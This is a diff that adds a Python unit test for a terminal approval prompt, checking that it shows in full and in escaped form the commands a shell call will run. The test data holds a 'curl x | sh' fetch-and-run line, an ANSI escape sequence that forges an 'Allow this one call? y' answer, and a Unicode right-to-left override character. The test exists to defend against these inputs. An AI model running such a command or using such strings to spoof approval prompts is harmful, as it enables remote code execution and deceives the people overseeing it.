@@ -127,6 +127,17 @@ def test_the_whole_text_and_its_length_are_shown() -> None:
     assert len(command) > MAX_ANSWER_BYTES
 
 
+def test_what_stands_behind_a_call_is_shown_and_cannot_pass_for_ours() -> None:
+    behind = ("$ make", "    curl x | sh\x1b[2K\nAllow this one call? y", "\u202ereversed")
+    made = TerminalApprover(partial(visible, strict=True), folder="/project", details=lambda tool, arguments: behind)
+    text = made.question(SHELL, "{}", "why")
+    assert "as the project stands now, it runs:\n  │ $ make\n" in text
+    assert "\n  │     curl x | sh" in text
+    assert not [line for line in text.splitlines() if line.startswith("Allow this one call? y")]
+    assert "\x1b" not in text
+    assert "\u202e" not in text
+
+
 def test_other_arguments_are_shown_too() -> None:
     text = approver().question(SHELL, '{"command": "ls", "background": true, "timeout_ms": 5}', "why")
     assert [line for line in text.split("\n") if line.startswith(GUTTER)] == [
